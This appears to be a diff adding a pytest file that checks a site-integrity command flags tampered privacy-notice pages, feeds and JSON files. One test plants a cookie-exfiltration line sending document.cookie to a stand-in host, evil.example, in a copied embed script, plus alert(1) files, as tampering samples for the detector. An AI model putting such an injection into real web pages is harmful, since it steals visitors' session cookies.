@@ -1,0 +1,273 @@
+"""``notices verify`` finds every kind of tampering with a built or deployed site (issue 17).
+
+One site is built per module (a notice with a corrected version, an upcoming version,
+a translation and a superseded notice: every page kind the tool writes), then copies
+of it are tampered with the way a careless deploy or a hostile editor would: a changed
+sentence, a flipped flag, an injected script, a byte changed in place (same size),
+a deleted page, a stray file, the file list edited to match.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import functools
+import json
+import shutil
+import threading
+from collections.abc import Iterator
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import SiteRepo, notice
+
+from notices.load import load_site
+from notices.model import NoticeSet
+from notices.site.filelist import FILES
+from notices.siteconfig import load_options
+from notices.verify import verify_site
+
+NAME = "Example Ltd notices"  # site_name in conftest's mkdocs.yml: the feeds carry it
+BODY = """\
+# Privacy notice
+
+## Who we are
+
+Example Ltd, 1 Main Street.
+
+## Why we use your data
+
+To take orders.
+"""
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SiteRepo, NoticeSet]]:
+    site = SiteRepo(tmp_path_factory.mktemp("verify") / "repo")
+    site.commit("studio", {"docs/studio.md": notice("1", "2024-01-01", BODY, title="Studio notice")})
+    site.commit("v1", {"docs/privacy.md": notice("1", "2024-01-01", BODY)})
+    site.commit("v1 typo", {"docs/privacy.md": notice("1", "2024-01-01", BODY.replace("orders", "orders."))})
+    site.commit(
+        "v2",
+        {
+            "docs/privacy.md": notice("2", "2025-01-01", BODY + "\nAnd marketing.\n", supersedes="[studio]"),
+            "docs/privacy.da.md": notice("2", "2025-01-01", "# Privatliv\n\nVi er Example.\n", title="Privatliv"),
+            "changelog/privacy/2.md": "Marketing added.\n",
+        },
+    )
+    site.commit("v3", {"docs/privacy.md": notice("3", "2027-01-01", BODY + "\nAnd ads.\n", supersedes="[studio]")})
+    site.build()
+    options, _ = load_options(site.root / "mkdocs.yml")
+    notices = load_site(dataclasses.replace(options, cache=False))
+    yield site, notices
+    site.repo.close()
+
+
+@pytest.fixture
+def copy(built: tuple[SiteRepo, NoticeSet], tmp_path: Path) -> Path:
+    target = tmp_path / "site"
+    shutil.copytree(built[0].root / "site", target)
+    return target
+
+
+def _listing(site: Path) -> dict[str, Any]:
+    return dict(json.loads((site / FILES).read_text()))
+
+
+def _edit(site: Path, path: str, old: str, new: str) -> None:
+    file = site / path
+    text = file.read_text(encoding="utf-8")
+    assert old in text, f"{old!r} not in {path}"
+    file.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+
+def _flip(site: Path, path: str) -> None:
+    """One byte changed in place: same size, same place (the edit a size check misses)."""
+    file = site / path
+    data = bytearray(file.read_bytes())
+    middle = len(data) // 2
+    data[middle] = ord("x") if data[middle] != ord("x") else ord("y")
+    file.write_bytes(bytes(data))
+
+
+def _about(problems: list[str], path: str) -> list[str]:
+    return [p for p in problems if p.startswith(path + ": ")]
+
+
+def test_the_file_list_names_every_file_of_the_tool_with_its_digest(copy: Path) -> None:
+    listing = _listing(copy)
+    paths = listing["paths"]
+    for path in [
+        "privacy/index.html",  # MkDocs' page, filled by the tool: its final bytes
+        "privacy/1/index.html",
+        "privacy/1/r1/index.html",
+        "privacy/1/r2/index.html",
+        "privacy/2/diff/index.html",
+        "privacy/changelog/index.html",
+        "privacy/compare/index.html",
+        "privacy/feed.xml",
+        "embed/privacy/index.html",
+        "embed/notice.js",
+        "api/v1/privacy.json",
+        "api/v1/privacy/current.json",
+        "api/v1/privacy/1.json",
+        "api/v1/index.json",
+        "api/v1/schema.json",
+        "studio/1/index.html",
+        "privacy.da/index.html",
+        "assets/notices/notices.css",
+        "assets/notices/notices.js",
+        "feed.xml",
+        "versions.json",
+    ]:
+        assert path in paths, path
+    assert FILES not in paths and "index.html" not in paths and "sitemap.xml" not in paths  # MkDocs' own
+    digest, size = paths["privacy/1/index.html"]
+    assert len(digest) == 64 and size == (copy / "privacy/1/index.html").stat().st_size
+    assert listing["today"] == "2026-06-01"
+    assert all(len(p) == 2 for p in paths.values())  # path → [sha256, size], nothing more
+
+
+def test_an_untouched_site_passes(built: tuple[SiteRepo, NoticeSet], copy: Path) -> None:
+    assert verify_site(copy, built[1], NAME) == []
+
+
+def test_every_kind_of_tampering_is_found_at_once(built: tuple[SiteRepo, NoticeSet], copy: Path) -> None:
+    _edit(copy, "privacy/index.html", "To take orders", "To sell your data")
+    _edit(copy, "embed/privacy/index.html", "To take orders", "To sell your data")
+    _edit(copy, "api/v1/privacy/current.json", "And marketing.", "And sold data.")
+    index = json.loads((copy / "api/v1/privacy.json").read_text())
+    index["versions"][1]["material"] = not index["versions"][1]["material"]
+    (copy / "api/v1/privacy.json").write_text(json.dumps(index, indent=1) + "\n")
+    _edit(copy, "embed/notice.js", "(function", "fetch('https://evil.example/?'+document.cookie);(function")
+    (copy / "privacy/2/diff/index.html").unlink()
+    (copy / "api/v1/evil.json").write_text("{}")
+    (copy / "privacy/9").mkdir()
+    (copy / "privacy/9/index.html").write_text("<p>A fake version 9</p>")
+    (copy / "embed/x.js").write_text("alert(1)")
+    (copy / "assets/notices/extra.js").write_text("alert(1)")
+    flipped = ["privacy/changelog/index.html", "privacy/compare/index.html", "studio/1/index.html", "privacy/feed.xml"]
+    for path in flipped:
+        _flip(copy, path)
+    problems = verify_site(copy, built[1], NAME)
+    for path in ["privacy/index.html", "embed/privacy/index.html", "api/v1/privacy/current.json", *flipped]:
+        assert any("changed after the build" in p for p in _about(problems, path)), path
+    assert any("`versions`" in p for p in _about(problems, "api/v1/privacy.json"))  # the Git check too
+    assert any("the text differs from version 2 in Git" in p for p in _about(problems, "privacy/index.html"))
+    assert _about(problems, "embed/notice.js") and _about(problems, "api/v1/privacy/current.json")
+    assert any(
+        "missing" in p and "a deploy must not drop files" in p for p in _about(problems, "privacy/2/diff/index.html")
+    )
+    for stray in ["api/v1/evil.json", "privacy/9/index.html", "embed/x.js", "assets/notices/extra.js"]:
+        assert any("not written by the build" in p and "delete it" in p for p in _about(problems, stray)), stray
+    assert all(": " in p and "rebuild" in p or "delete it" in p for p in problems)  # the path and what to do
+
+
+def test_every_file_changed_in_place_is_found(built: tuple[SiteRepo, NoticeSet], copy: Path) -> None:
+    paths = sorted(_listing(copy)["paths"])
+    for path in paths:
+        _flip(copy, path)
+    problems = verify_site(copy, built[1], NAME)
+    missed = [p for p in paths if not any("changed after the build" in x for x in _about(problems, p))]
+    assert missed == []
+
+
+def test_a_tamperer_who_also_edits_the_file_list_is_caught_by_git(
+    built: tuple[SiteRepo, NoticeSet], copy: Path
+) -> None:
+    import hashlib
+
+    listing = _listing(copy)
+    for path, old, new in [
+        ("api/v1/privacy/current.json", "To take orders", "To sell data"),
+        ("privacy/1/r1/index.html", "To take orders", "To sell data"),
+        ("privacy/index.html", "To take orders", "To sell data"),
+        ("embed/privacy/index.html", "To take orders", "To sell data"),
+    ]:
+        _edit(copy, path, old, new)
+        data = (copy / path).read_bytes()
+        listing["paths"][path] = [hashlib.sha256(data).hexdigest(), len(data)]
+    (copy / "privacy/2/diff/index.html").unlink()
+    del listing["paths"]["privacy/2/diff/index.html"]
+    (copy / FILES).write_text(json.dumps(listing))
+    problems = verify_site(copy, built[1], NAME)
+    assert not any("changed after the build" in p for p in problems)
+    assert _about(problems, "api/v1/privacy/current.json") and _about(problems, "embed/privacy/index.html")
+    assert any("differs from version 1 (revision 1)" in p for p in _about(problems, "privacy/1/r1/index.html"))
+    assert any("differs from version 2" in p for p in _about(problems, "privacy/index.html"))
+    assert any("missing" in p for p in _about(problems, "privacy/2/diff/index.html"))
+
+
+@pytest.mark.parametrize("damage", ["deleted", "not json", "another format", "bad entry"])
+def test_a_missing_or_damaged_file_list_is_reported(built: tuple[SiteRepo, NoticeSet], copy: Path, damage: str) -> None:
+    file = copy / FILES
+    if damage == "deleted":
+        file.unlink()
+    else:
+        listing = _listing(copy)
+        listing["paths"]["privacy/index.html"] = "abc"
+        text = {"not json": "{", "another format": '{"files": 7, "paths": {}}', "bad entry": json.dumps(listing)}
+        file.write_text(text[damage])
+    problems = verify_site(copy, built[1], NAME)
+    assert len(_about(problems, FILES)) == 1 and "rebuild" in _about(problems, FILES)[0]
+
+
+def test_a_warm_rebuild_writes_the_same_list(built: tuple[SiteRepo, NoticeSet], tmp_path: Path) -> None:
+    """Digests come from the cache for unchanged files: they must still be the files' digests."""
+    site = built[0]
+    before = (site.root / "site" / FILES).read_bytes()
+    site.build()
+    assert (site.root / "site" / FILES).read_bytes() == before
+    assert verify_site(site.root / "site", built[1], NAME) == []
+
+
+# -- over HTTP --------------------------------------------------------------------------------
+
+
+class _Quiet(SimpleHTTPRequestHandler):
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
+@pytest.fixture
+def serve() -> Iterator[Any]:
+    servers: list[ThreadingHTTPServer] = []
+
+    def start(folder: Path) -> str:
+        server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(folder)))
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        servers.append(server)
+        return f"http://127.0.0.1:{server.server_address[1]}/"
+
+    yield start
+    for server in servers:
+        server.shutdown()
+        server.server_close()
+
+
+def test_a_deployed_site_is_checked_over_http(built: tuple[SiteRepo, NoticeSet], copy: Path, serve: Any) -> None:
+    url = serve(copy)
+    assert verify_site(url, built[1], NAME) == []
+    _edit(copy, "privacy/index.html", "To take orders", "To sell your data")
+    _flip(copy, "privacy/compare/index.html")
+    (copy / "privacy/2/diff/index.html").unlink()
+    problems = verify_site(url, built[1], NAME)
+    assert any("changed after the build" in p for p in _about(problems, "privacy/index.html"))
+    assert any("changed after the build" in p for p in _about(problems, "privacy/compare/index.html"))
+    assert any("missing" in p for p in _about(problems, "privacy/2/diff/index.html"))
+
+
+def test_the_cli_checks_a_url_and_a_folder(built: tuple[SiteRepo, NoticeSet], copy: Path, serve: Any) -> None:
+    site = built[0]
+    url = serve(copy)
+    assert "unchanged" in site.notices("verify", url).stdout
+    _edit(copy, "api/v1/privacy/current.json", "To take orders", "To sell data")
+    result = site.notices("verify", url, check=False)
+    assert result.returncode == 1 and "differs: api/v1/privacy/current.json: changed after the build" in result.stderr
+    result = site.notices("verify", str(copy), check=False)
+    assert result.returncode == 1 and "api/v1/privacy/current.json" in result.stderr
+    nowhere = site.notices("verify", "ftp://example.org/", check=False)
+    assert nowhere.returncode == 1 and "http(s)://" in nowhere.stderr
+    missing = site.notices("verify", str(copy / "nope"), check=False)
+    assert missing.returncode == 1 and "does not exist" in missing.stderr
